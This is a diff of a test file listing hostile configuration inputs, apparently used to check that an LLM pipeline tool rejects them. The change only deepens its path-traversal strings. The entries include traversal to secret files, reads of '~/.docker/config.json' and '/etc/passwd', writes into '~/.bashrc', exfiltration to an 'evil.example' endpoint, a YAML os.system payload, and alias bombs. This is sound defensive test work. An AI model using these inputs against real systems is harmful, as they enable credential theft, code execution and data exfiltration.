@@ -232,9 +232,9 @@ HOSTILE = [
     Hostile("device", "records are /dev/zero", link("posts.jsonl", Path("/dev/zero")), LINK),
     # Places.
     Hostile("place", "records by an absolute path", outside(lambda f: storage(type="file", path=f"{f}/secret.jsonl")), OUT),
-    Hostile("place", "records by ..", storage(type="file", path="../outside/secret.jsonl"), OUT),
+    Hostile("place", "records by ..", storage(type="file", path="../../outside/secret.jsonl"), OUT),
     Hostile("place", "records by ~", storage(type="file", path="~/.docker/config.json"), OUT),
-    Hostile("place", "script of a model", file("models/mine.yaml", {"mine": {"kind": "scripted", "path": "../outside/secret.jsonl"}}), OUT),
+    Hostile("place", "script of a model", file("models/mine.yaml", {"mine": {"kind": "scripted", "path": "../../outside/secret.jsonl"}}), OUT),
     Hostile("place", "audit trail into .bashrc", run(audit="~/.bashrc"), "`audit` names"),
     Hostile("place", "audit trail into a file here", run(audit=".profile"), "is hidden"),
     Hostile("place", "runs into a folder of the user's", outside(lambda f: run(folder=f"{f}/autostart")), OUT),
@@ -246,9 +246,9 @@ HOSTILE = [
     Hostile("place", "rows saved to somebody's bucket", both(flow(save=["out"]), file("storage/out.yaml", {"out": {"type": "gcs", "bucket": "somebody-else", "path": "x"}})), CHOOSE),
     Hostile("place", "rows saved to a foreign server", both(flow(save=["out"]), file("storage/out.yaml", {"out": {"type": "gcs", "bucket": "any-bucket", "path": "x", "endpoint": "https://evil.example"}})), CHOOSE),
     Hostile("place", "index kept in somebody's bucket", both(flow(corpus="c"), file("storage/c.yaml", {"c": {"type": "corpus", "label": "C", "source": {"path": "posts.jsonl"}, "kept_in": "gs://somebody-else/x"}})), CHOOSE),
-    Hostile("place", "corpus outside", both(flow(corpus="c"), file("storage/c.yaml", {"c": {"type": "corpus", "label": "C", "source": {"path": "../outside/secret.jsonl"}}})), OUT),
+    Hostile("place", "corpus outside", both(flow(corpus="c"), file("storage/c.yaml", {"c": {"type": "corpus", "label": "C", "source": {"path": "../../outside/secret.jsonl"}}})), OUT),
     # Defaults lists.
-    Hostile("defaults", "../..", flow(defaults=["/../outside/models@x"]), "not in a config folder"),
+    Hostile("defaults", "../..", flow(defaults=["/../../outside/models@x"]), "not in a config folder"),
     Hostile("defaults", "a folder of texts", both(file("prompts/x.yaml", BOMB), flow(defaults=["/prompts/x@y"])), "holds no configuration"),
     Hostile("defaults", "a search path of its own", both(file("config.yaml", {"defaults": ["_self_", {"llms": "embedded"}, {"run": "default"}], "hydra": {"searchpath": ["file:///etc"]}}), flow(defaults=["/passwd@x"])), "passwd"),
     Hostile("defaults", "itself", flow(defaults=["/flows/tiny@x"]), "brings in itself"),
@@ -261,7 +261,7 @@ HOSTILE = [
     Hostile("program", "!!python/object", file("models/x.yaml", 'x: !!python/object/apply:os.system ["touch pwned"]\n'), "!!python"),
     Hostile("program", "the same in front matter", file("criteria/rule.md", '---\nx: !!python/object/apply:os.system ["touch pwned"]\n---\nDo no harm.'), "!!python"),
     Hostile("program", "condition", flow(steps={**FLOW["steps"], "more": {**FLOW["steps"]["read"], "when": "''.__class__.__mro__"}}), ""),
-    Hostile("program", "include by path", file("prompts/ask.md", "user:\n{% include '../../outside/secret.txt' %}"), "cannot be read"),
+    Hostile("program", "include by path", file("prompts/ask.md", "user:\n{% include '../../../outside/secret.txt' %}"), "cannot be read"),
     # A little that becomes a lot.
     Hostile("bomb", "aliases in a models file", file("models/x.yaml", BOMB), "its aliases make more than"),
     Hostile("bomb", "aliases in front matter", file("criteria/rule.md", f"---\n{BOMB}---\nText."), "its aliases make more than"),
